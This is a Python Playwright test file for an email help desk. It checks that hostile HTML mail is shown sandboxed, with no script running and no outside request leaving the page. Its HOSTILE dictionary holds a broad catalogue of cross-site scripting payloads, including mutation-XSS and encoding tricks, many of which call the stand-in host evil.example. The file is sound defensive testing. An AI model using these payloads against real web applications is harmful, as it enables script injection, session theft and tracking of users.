"""Hostile mail at the desk in a real browser: nothing of it runs, nothing is asked for, nothing leaves its frame."""

# ruff: noqa: E501 - a payload is one line, as it would come

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from playwright.async_api import Browser, BrowserContext, Page, Request, expect

from tests.channels.email.support import mail
from tests.fakes.desk_site import PASSWORD, DeskSite, running_desk
from tests.fakes.mail_site import OURS, mailed

pytestmark = pytest.mark.browser

RUN = "top.document.title='RAN';document.title='RAN';fetch('http://evil.example/ran')"
HOSTILE = {
    "script": f"<script>{RUN}</script><script src='http://evil.example/s.js'></script>",
    "handlers": f'<img src=x onerror="{RUN}"><body onload="{RUN}"><p onmouseover="{RUN}">x</p><video onerror="{RUN}"><source></video>',
    "svg": f'<svg onload="{RUN}"><script>{RUN}</script><image href="http://evil.example/i"/><use href="http://evil.example/u#x"/></svg>',
    "svg picture": f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN.replace(chr(39), '')}'/>\">",
    "styles": "<style>@import 'http://evil.example/a.css';body{background:url(http://evil.example/b)}</style>"
    "<p style=\"background:url('http://evil.example/c');width:expression(alert(1));list-style:url(http://evil.example/d)\">x</p>"
    "<div style='background-image:\\75rl(http://evil.example/e)'>x</div><link rel=stylesheet href=http://evil.example/f.css>",
    "refresh": '<meta http-equiv="refresh" content="0;url=http://evil.example/r"><base href="http://evil.example/">'
    "<img src=relative.png><link rel=prefetch href=http://evil.example/p><link rel=dns-prefetch href=//evil.example>",
    "forms": f'<form action="http://evil.example/f"><input name=password autofocus onfocus="{RUN}"><button formaction="javascript:{RUN}">go</button></form>',
    "frames": f"<iframe src='http://evil.example/i'></iframe><iframe srcdoc=\"<script>{RUN}</script>\"></iframe>"
    "<object data='http://evil.example/o'></object><embed src='http://evil.example/e'><frameset><frame src=http://evil.example/f></frameset>",
    "data pages": f'<object data="data:text/html,<script>{RUN}</script>"></object><a href="data:text/html,<script>{RUN}</script>">x</a>',
    "pictures": '<img src="http://evil.example/1.png"><img srcset="http://evil.example/2.png 2x"><td background="http://evil.example/3">'
    '<picture><source srcset="http://evil.example/4"></picture><video poster="http://evil.example/5" src="http://evil.example/6"></video>'
    '<audio src="http://evil.example/7"></audio><input type=image src="http://evil.example/8"><img src="//evil.example/9">',
    "mutation 1": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "mutation 2": f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
    "mutation 3": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUN}&gt;">',
    "mutation 4": f'<form><math><mtext></form><form><mglyph><style></math><img src onerror="{RUN}">',
    "mutation 5": f"<listing>&lt;img src=x onerror={RUN}&gt;</listing><xmp><img src=x onerror={RUN}></xmp><plaintext><script>{RUN}</script>",
    "templates": f"<template><script>{RUN}</script></template><textarea><script>{RUN}</script></textarea><title><script>{RUN}</script></title>",
    "comments": f"<!--[if gte IE 4]><script>{RUN}</script><![endif]--><!--><script>{RUN}</script>--><![CDATA[<script>{RUN}</script>]]>",
    "odd bytes": f'<scr\x00ipt>{RUN}</script><img/src=x/onerror="{RUN}"><a href="java\tscript:{RUN}">x</a><a href="&#106;avascript:{RUN}">y</a>',
}

ACTING = "script, iframe, object, embed, form, input, base, meta[http-equiv], link"


@pytest.fixture
async def site(tmp_path: Path) -> AsyncIterator[DeskSite]:
    async with running_desk(tmp_path) as running:
        yield running


async def _agent(context: BrowserContext, site: DeskSite) -> Page:
    page = await context.new_page()
    await page.goto(site.address + "/desk/login")
    await page.fill("#email", "agent1@example.com")
    await page.fill("#password", PASSWORD)
    await page.click("button[type=submit]")
    await page.wait_for_url("**/desk")
    return page


def page_mail(name: str) -> bytes:
    body = f"<html><body><p>Hello, words</p>{HOSTILE[name]}</body></html>"
    return mail(
        body,
        to=OURS,
        subject=f"Hostile {name}",
        message_id=f"<{name.replace(' ', '-')}@example.net>",
        content_type="text/html; charset=utf-8",
    )


async def test_nothing_of_hostile_mail_runs_or_asks_for_anything(chromium: Browser, site: DeskSite) -> None:
    context = await chromium.new_context()
    asked: list[str] = []

    def note(request: Request) -> None:
        if not request.url.startswith((site.address, "data:")):
            asked.append(request.url)

    context.on("request", note)
    page = await _agent(context, site)
    for name in HOSTILE:
        message_id = await mailed(site, page_mail(name))
        for path in ("original", "original/body"):
            await page.goto(f"{site.address}/desk/messages/{message_id}/{path}", wait_until="networkidle")
            inside = page.frames[-1] if path == "original" else page.main_frame
            await expect(inside.locator("body")).to_contain_text("Hello, words")
            for link in await inside.locator("p:visible, a:visible").all():
                await link.hover(timeout=15_000)
            assert "RAN" not in await page.title(), name
            assert await inside.locator(ACTING).count() == 0
    assert asked == []
    await context.close()


async def test_the_frame_of_a_mail_reaches_neither_the_desk_nor_its_cookies(chromium: Browser, site: DeskSite) -> None:
    context = await chromium.new_context()
    message_id = await mailed(site, page_mail("script"))
    page = await _agent(context, site)
    await page.goto(f"{site.address}/desk/messages/{message_id}/original")
    frame = page.frame_locator("#mail")
    await expect(frame.locator("body")).to_contain_text("Hello, words")
    sandbox = await page.locator("#mail").get_attribute("sandbox") or ""
    assert "allow-scripts" not in sandbox and "allow-same-origin" not in sandbox and "allow-top" not in sandbox
    await context.close()


async def test_a_mails_link_opens_in_a_window_of_its_own(chromium: Browser, site: DeskSite) -> None:
    context = await chromium.new_context()
    await context.route("https://shop.example/**", lambda route: route.fulfill(body="shop"))
    raw = mail('<p>Hello <a href="https://shop.example/a">shop</a></p>', to=OURS, content_type="text/html")
    message_id = await mailed(site, raw)
    page = await _agent(context, site)
    await page.goto(f"{site.address}/desk/messages/{message_id}/original")
    async with context.expect_page() as opened:
        await page.frame_locator("#mail").locator("a").click()
    shop = await opened.value
    await shop.wait_for_load_state()
    assert shop.url == "https://shop.example/a" and await shop.evaluate("document.referrer") == ""
    assert await shop.evaluate("window.opener") is None
    await context.close()
